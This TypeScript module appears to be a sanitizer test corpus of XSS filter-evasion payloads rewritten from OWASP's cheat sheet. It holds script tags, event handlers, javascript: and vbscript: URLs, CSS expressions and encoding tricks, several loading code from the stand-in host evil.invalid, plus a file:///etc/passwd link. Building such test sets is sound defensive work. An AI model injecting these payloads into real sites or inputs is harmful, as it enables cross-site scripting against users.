import { asData, asReferences, type Payload } from './payload.js';

/**
 * The ways past a filter that OWASP's "XSS Filter Evasion Cheat Sheet" lists, written anew:
 * https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
 * Without those for the query of an address, for server-side includes, PHP and cookies: they are no HTML.
 */
export const owasp: readonly Payload[] = [
  { name: 'script from another host', html: '<SCRIPT SRC=https://evil.invalid/x.js></SCRIPT>' },
  {
    name: 'end of every text element, then an event',
    html: `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+attack();//'>`,
  },
  { name: 'link with an event only', html: '<a onmouseover="attack()">a</a>' },
  { name: 'link with an event without quotes', html: '<a onmouseover=attack()>a</a>' },
  { name: 'link between backslashes', html: '\\<a onmouseover="attack()"\\>a\\</a\\>' },
  { name: 'script behind three quotes', html: '<IMG """><SCRIPT>attack()</SCRIPT>"\\>' },
  {
    name: 'code made of character codes',
    html: `<IMG SRC=javascript:eval(String.fromCharCode(${asReferences('attack()', (code) => `${code},`)}32))>`,
  },
  { name: 'event beside a fragment for a source', html: '<IMG SRC=# onmouseover="attack()">' },
  { name: 'event that is the source', html: '<IMG SRC= onmouseover="attack()">' },
  { name: 'image without a source', html: '<IMG onmouseover="attack()">' },
  { name: 'image that fails', html: '<IMG SRC=/ onerror="attack()"></img>' },
  {
    name: 'event in references',
    html: `<img src=x onerror="${asReferences('attack()', (code) => `&#${String(code).padStart(7, '0')}`)}">`,
  },
  {
    name: 'address in decimal references',
    html: `<IMG SRC=${asReferences('javascript:attack()', (code) => `&#${code};`)}>`,
  },
  {
    name: 'address in padded references without semicolons',
    html: `<a href=${asReferences('javascript:attack()', (code) => `&#${String(code).padStart(7, '0')}`)}>a</a>`,
  },
  {
    name: 'address in hexadecimal references without semicolons',
    html: `<a href=${asReferences('javascript:attack()', (code) => `&#x${code.toString(16)}`)}>a</a>`,
  },
  { name: 'tab within the scheme', html: '<a href="jav\tascript:attack()">a</a>' },
  { name: 'tab as a reference', html: '<a href="jav&#x09;ascript:attack()">a</a>' },
  { name: 'line feed as a reference', html: '<a href="jav&#x0A;ascript:attack()">a</a>' },
  { name: 'carriage return as a reference', html: '<a href="jav&#x0D;ascript:attack()">a</a>' },
  { name: 'null within the scheme', html: '<a href="java\0script:attack()">a</a>' },
  { name: 'null within the tag', html: '<SCR\0IPT>attack()</SCR\0IPT>' },
  {
    name: 'control characters before the scheme',
    html: '<a href=" &#14;  javascript:attack()">a</a>',
  },
  {
    name: 'slash and word behind the tag name',
    html: '<SCRIPT/X SRC="https://evil.invalid/x.js"></SCRIPT>',
  },
  { name: 'signs behind the event name', html: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=attack()>' },
  { name: 'slash in place of a space', html: '<SCRIPT/SRC="https://evil.invalid/x.js"></SCRIPT>' },
  { name: 'two opening brackets', html: '<<SCRIPT>attack();//\\<</SCRIPT>' },
  { name: 'script without an end', html: '<SCRIPT SRC=https://evil.invalid/x.js?< B >' },
  { name: 'script without a scheme', html: '<SCRIPT SRC=//evil.invalid/.j>' },
  { name: 'tag that never ends', html: '<IMG SRC="/" onerror="attack()"' },
  { name: 'quoted scheme in brackets', html: '<IMG SRC="`<javascript:attack>`(1)"' },
  { name: 'frame that ends with an opening bracket', html: '<iframe src=javascript:attack() <' },
  { name: 'end of a string', html: '\\";attack();//' },
  { name: 'end of another script', html: '</script><script>attack()</script>' },
  { name: 'end of a title', html: '</TITLE><SCRIPT>attack()</SCRIPT>' },
  { name: 'image of a form', html: '<INPUT TYPE="IMAGE" SRC="javascript:attack()">' },
  { name: 'background of the body', html: '<BODY BACKGROUND="javascript:attack()">' },
  { name: 'source of a moving image', html: '<IMG DYNSRC="javascript:attack()">' },
  { name: 'source of a small image', html: '<IMG LOWSRC="javascript:attack()">' },
  {
    name: 'image of list items',
    html: '<STYLE>li {list-style-image: url("javascript:attack()");}</STYLE><UL><LI>a</br>',
  },
  { name: 'VBScript in an image', html: `<IMG SRC='vbscript:attack()'>` },
  { name: 'VBScript in a link', html: `<a href='vbscript:attack()'>a</a>` },
  { name: 'LiveScript', html: '<a href="livescript:attack()">a</a>' },
  { name: 'drawing that loads', html: '<svg/onload=attack()>' },
  { name: 'template string in place of brackets', html: '<img src=x onerror=attack``>' },
  {
    name: 'constructor of a function',
    html: '<img src=x onerror="Set.constructor`window.attacked\\x3dtrue```">',
  },
  { name: 'body that loads', html: '<BODY ONLOAD=attack()>' },
  { name: 'space before the equals sign', html: '<img src=x onerror = attack()>' },
  {
    name: 'event that begins a time line',
    html: '<t:set attributeName="innerHTML" onbegin="attack()">a</t:set>',
  },
  {
    name: 'event of a scrolling text',
    html: '<marquee behavior=alternate onstart=attack() onbounce=attack()>a</marquee>',
  },
  {
    name: 'events of the clipboard',
    html: '<p onbeforecopy=attack() oncopy=attack() oncut=attack()>a</p>',
  },
  {
    name: 'events of dragging',
    html: '<p draggable=true ondragstart=attack() ondrop=attack()>a</p>',
  },
  {
    name: 'events of keys',
    html: '<p tabindex=0 onkeydown=attack() onkeyup=attack() onkeypress=attack()>a</p>',
  },
  {
    name: 'events of media',
    html: '<video src=x onerror=attack() onloadstart=attack() onstalled=attack()></video>',
  },
  { name: 'background sound', html: '<BGSOUND SRC="javascript:attack()">' },
  { name: 'script entity', html: '<BR SIZE="&{attack()}">' },
  {
    name: 'style sheet that is a script',
    html: '<LINK REL="stylesheet" HREF="javascript:attack()">',
  },
  {
    name: 'style sheet of another host',
    html: '<LINK REL="stylesheet" HREF="https://evil.invalid/x.css">',
  },
  { name: 'import of a style sheet', html: `<STYLE>@import'https://evil.invalid/x.css';</STYLE>` },
  {
    name: 'style sheet by a header',
    html: '<META HTTP-EQUIV="Link" Content="<https://evil.invalid/x.css>; REL=stylesheet">',
  },
  {
    name: 'binding',
    html: '<STYLE>BODY{-moz-binding:url("https://evil.invalid/x.xml#x")}</STYLE>',
  },
  { name: 'import with escapes', html: `<STYLE>@im\\port'\\ja\\vasc\\ript:attack()';</STYLE>` },
  { name: 'expression with a comment in it', html: '<IMG STYLE="x:expr/*x*/ession(attack())">' },
  {
    name: 'expression across comments',
    html: `exp/*<A STYLE='no\\x:nox("*//*");x:ex/*x*//*/*/pression(attack())'>`,
  },
  { name: 'script as a style sheet', html: '<STYLE TYPE="text/javascript">attack()</STYLE>' },
  {
    name: 'background image by a class',
    html: '<STYLE>.x{background-image:url("javascript:attack()");}</STYLE><A CLASS=x></A>',
  },
  {
    name: 'background by a style sheet',
    html: '<STYLE type="text/css">BODY{background:url("javascript:attack()")}</STYLE>',
  },
  { name: 'expression on an unknown element', html: '<X STYLE="x:expression(attack())">' },
  { name: 'behaviour', html: '<X STYLE="behavior: url(x.htc);">' },
  { name: 'brackets of another encoding', html: '¼script¾attack()¼/script¾' },
  {
    name: 'refresh to a script',
    html: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:attack()">',
  },
  {
    name: 'refresh to data',
    html: `<META HTTP-EQUIV="refresh" CONTENT="0;url=${asData('<script>attack()</script>')}">`,
  },
  {
    name: 'refresh with two addresses',
    html: '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:attack()">',
  },
  { name: 'frame with a script', html: '<IFRAME SRC="javascript:parent.attack()"></IFRAME>' },
  {
    name: 'frame with an event',
    html: '<IFRAME SRC=# onmouseover="attack()" onload="attack()"></IFRAME>',
  },
  { name: 'set of frames', html: '<FRAMESET><FRAME SRC="javascript:parent.attack()"></FRAMESET>' },
  { name: 'background of a table', html: '<TABLE BACKGROUND="javascript:attack()">' },
  { name: 'background of a cell', html: '<TABLE><TD BACKGROUND="javascript:attack()">' },
  {
    name: 'background by a style',
    html: '<DIV STYLE="background-image: url(javascript:attack())">a</DIV>',
  },
  {
    name: 'background in escapes',
    html: `<DIV STYLE="background-image:${asReferences("url('javascript:attack()')", (code) => `\\${code.toString(16).padStart(4, '0')}`)}">a</DIV>`,
  },
  {
    name: 'background behind a control character',
    html: '<DIV STYLE="background-image: url(&#1;javascript:attack())">a</DIV>',
  },
  { name: 'expression for a width', html: '<DIV STYLE="width:\nexpression(attack());">a</DIV>' },
  {
    name: 'comment for one browser',
    html: '<!--[if gte IE 4]><SCRIPT>attack()</SCRIPT><![endif]-->',
  },
  {
    name: 'base of a script',
    html: '<BASE HREF="javascript:attack();//"><a href="#x">a</a><img src="x">',
  },
  {
    name: 'plug-in by its address',
    html: '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.invalid/x.html"></OBJECT>',
  },
  {
    name: 'plug-in by its class',
    html: '<OBJECT classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:attack()></OBJECT>',
  },
  {
    name: 'embedded film',
    html: '<EMBED SRC="https://evil.invalid/x.swf" AllowScriptAccess="always"></EMBED>',
  },
  {
    name: 'embedded drawing',
    html: `<EMBED SRC="${asData('<svg xmlns="http://www.w3.org/2000/svg"><script>parent.attack()</script></svg>', 'image/svg+xml')}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  },
  {
    name: 'XML with a part that is not parsed',
    html: '<XML ID="x"><I><B><IMG SRC="javas<!-- -->cript:attack()"></B></I></XML><SPAN DATASRC="#x" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
  },
  {
    name: 'XML in CDATA',
    html: '<XML ID=x><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:attack();">]]></C></X></XML><SPAN DATASRC=#x DATAFLD=C DATAFORMATAS=HTML></SPAN>',
  },
  {
    name: 'XML of another file',
    html: '<XML SRC="x.xml" ID=x></XML><SPAN DATASRC=#x DATAFLD=C DATAFORMATAS=HTML></SPAN>',
  },
  {
    name: 'time line in XML',
    html: '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="a<SCRIPT DEFER>attack()</SCRIPT>"></BODY></HTML>',
  },
  {
    name: 'script with the name of an image',
    html: '<SCRIPT SRC="https://evil.invalid/x.jpg"></SCRIPT>',
  },
  {
    name: 'other encoding',
    html: '<META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7">+ADw-SCRIPT+AD4-attack()+ADw-/SCRIPT+AD4-',
  },
  {
    name: 'bracket in an attribute before the source',
    html: '<SCRIPT a=">" SRC="https://evil.invalid/x.js"></SCRIPT>',
  },
  {
    name: 'bracket in an attribute without a name',
    html: `<SCRIPT ="'>'" SRC="https://evil.invalid/x.js"></SCRIPT>`,
  },
  {
    name: 'bracket in two kinds of quotes',
    html: `<SCRIPT "a='>'" SRC="https://evil.invalid/x.js"></SCRIPT>`,
  },
  {
    name: 'bracket in grave accents',
    html: '<SCRIPT a=`>` SRC="https://evil.invalid/x.js"></SCRIPT>',
  },
  {
    name: 'script in two parts',
    html: '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.invalid/x.js"></SCRIPT>',
  },
  {
    name: 'event in quotes of another kind',
    html: `<img src="x' onerror='attack()"><img src='x" onerror="attack()'>`,
  },
  { name: 'event behind a slash', html: '<img/src="x"/onerror="attack()">' },
  { name: 'event behind a form feed', html: '<img\fsrc=x\fonerror=attack()>' },
  {
    name: 'address with its host in numbers',
    html: '<a href="http://0x7f.1/">a</a><a href="//2130706433">b</a>',
  },
  { name: 'address in mixed encoding', html: '<a href="h\ntt\tp://12&#9;7.000.0x0.1/">a</a>' },
  {
    name: 'address of a file system',
    html: '<a href="file:///etc/passwd">a</a><a href="ftp://evil.invalid/">b</a>',
  },
];
